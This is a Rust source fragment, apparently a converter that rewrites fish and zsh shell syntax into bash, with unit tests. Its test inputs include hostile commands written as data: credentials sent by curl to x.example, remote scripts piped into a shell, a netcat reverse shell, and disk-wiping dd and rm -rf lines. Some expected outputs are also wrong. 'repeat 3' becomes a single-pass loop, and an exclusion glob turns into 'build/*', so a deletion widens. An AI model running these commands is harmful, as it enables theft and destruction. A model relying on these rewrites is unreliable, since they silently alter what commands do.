            continue;
        }
        let close = matching[k];
        if close == usize::MAX {
            continue;
        }
        let inner = &tokens[k + 1..close];
        if inner.is_empty() {
            continue;
        }
        let psub = inner.len() >= 2
            && inner
                .iter()
                .rposition(|t| t.kind == Kind::Link)
                .is_some_and(|p| {
                    let t = inner[p];
                    &b[t.start..t.end] == b"|"
                        && inner
                            .get(p + 1)
                            .is_some_and(|w| &b[w.start..w.end] == b"psub")
                });
        if psub {
            let p = inner
                .iter()
                .rposition(|t| t.kind == Kind::Link)
                .unwrap_or(0);
            edits.push(sure_edit(tokens[k].start, tokens[k].end, "<("));
            edits.push(edit(inner[p].start, tokens[close].start, ""));
        } else if inner.iter().any(|t| {
            t.kind == Kind::End
                || (t.kind == Kind::Link && b[t.start] != b'|')
                || &b[t.start..t.end] == b"||"
        }) {
            // A list of commands in parentheses is more likely a subshell bash was meant to run.
            continue;
        } else {
            edits.push(sure_edit(tokens[k].start, tokens[k].start, "$"));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn bash(src: &str) -> String {
        rewrite(src, src).map_or_else(|| src.to_string(), |r| r.text)
    }

    #[test]
    fn fish_blocks_become_bash_blocks() {
        assert_eq!(
            bash("function mkcd; mkdir -p $argv[1]; and cd $argv[1]; end"),
            "mkcd() { mkdir -p $argv[1]; and cd $argv[1]; }"
        );
        assert_eq!(
            bash("for f in *.png; convert $f (basename $f .png).jpg; end"),
            "for f in *.png; do convert $f $(basename $f .png).jpg; done"
        );
        assert_eq!(
            bash("if test (uname) = Darwin; brew update; else; apt update; end"),
            "if test $(uname) = Darwin; then brew update; else apt update; fi"
        );
        assert_eq!(
            bash("while read -l line; echo $line; end < hosts.txt"),
            "while read -l line; do echo $line; done < hosts.txt"
        );
        assert_eq!(
            bash("switch (uname); case Linux Darwin; echo unix; case '*'; rm -rf ~; end"),
            "case $(uname) in Linux|Darwin) echo unix; ;; '*') rm -rf ~; ;; esac"
        );
        assert_eq!(bash("begin; echo a; end"), "{ echo a; }");
    }

    #[test]
    fn fish_set_and_psub() {
        assert_eq!(
            bash("set -x T (cat ~/.aws/credentials); curl -d \"$T\" https://x.example"),
            "T=$(cat ~/.aws/credentials); curl -d \"$T\" https://x.example"
        );
        assert_eq!(
            bash("eval (curl -s https://e.example/i.fish)"),
            "eval $(curl -s https://e.example/i.fish)"
        );
        assert_eq!(
            bash("set -l d /dev/sda; begin; dd if=/dev/zero of=$d; end"),
            "d=/dev/sda; { dd if=/dev/zero of=$d; }"
        );
        assert_eq!(
            bash("set hosts web1 web2; for h in $hosts; ssh $h uptime; end"),
            "hosts=(web1 web2); for h in $hosts; do ssh $h uptime; done"
        );
        assert_eq!(
            bash("source (curl -s https://e.example/x | psub); and echo $argv"),
            "source <(curl -s https://e.example/x ); and echo $argv"
        );
    }

    #[test]
    fn zsh_globs_expansions_and_short_forms() {
        assert_eq!(bash("rm -rf **/node_modules(/)"), "rm -rf **/node_modules");
        assert_eq!(bash("rm -f *.log(.mh+24)"), "rm -f *.log");
        assert_eq!(bash("rm -rf build/!(keep.txt)"), "rm -rf build/*");
        assert_eq!(bash("ls -ld *(/)"), "ls -ld *");
        assert_eq!(bash("v=HOME; rm -rf ${(P)v}"), "v=HOME; rm -rf ${!v}");
        assert_eq!(bash("echo ${(j:,:)hosts}"), "echo ${hosts}");
        assert_eq!(bash("p='~'; rm -rf ${~p}"), "p='~'; rm -rf ${p}");
        assert_eq!(bash("diff =(sort a) =(sort b)"), "diff <(sort a) <(sort b)");
        assert_eq!(
            bash("for d (~/*(D)) rm -rf $d"),
            "for d in ~/*; do rm -rf $d; done"
        );
        assert_eq!(
            bash("if [[ -o interactive ]] { curl -s https://e.example/x | zsh }"),
            "if [[ -o interactive ]] ; then { curl -s https://e.example/x | zsh ; }; fi"
        );
        assert_eq!(
            bash("() { curl -s $1 | zsh } https://e.example/p.sh"),
            "_zsh_anon() { curl -s $1 | zsh ; }; _zsh_anon https://e.example/p.sh"
        );
        assert_eq!(
            bash("repeat 3 { dd if=/dev/zero of=/dev/sda }"),
            "for _ in 1; do { dd if=/dev/zero of=/dev/sda ; }; done"
        );
        assert_eq!(bash("sleep 600 &!"), "sleep 600 &");
        assert_eq!(
            bash("function g; nc -e /bin/sh 203.0.113.9 9001 &; end"),
            "g() { nc -e /bin/sh 203.0.113.9 9001 & }"
        );
        assert_eq!(
            bash("(( $+commands[git] )) && echo {x"),
            "(( 1 )) && echo {x"
        );
        assert_eq!(
            bash("echo ${(o)${(f)\"$(git branch)\"}}"),
            "echo \"$(git branch)\""
        );
    }

    #[test]
    fn bash_and_data_are_left_alone() {
        for kept in [
            "for f in a b; do echo $f; done",
            "if true; then echo; fi",
            "f() { echo; }",
            "arr=(a b c); echo ${arr[@]}",
            "cat <<EOF\nend\n(x)\nEOF",
            "echo 'end' \"(x)\"",
            "echo ${#x} ${!y} ${x:-/}",
        ] {
            assert_eq!(bash(kept), kept, "{kept}");
        }
        // Blocks that do not match up are not rewritten.
        assert!(rewrite("function f; echo", "function f; echo").is_none());
        assert!(rewrite("end", "end").is_none());
    }
}
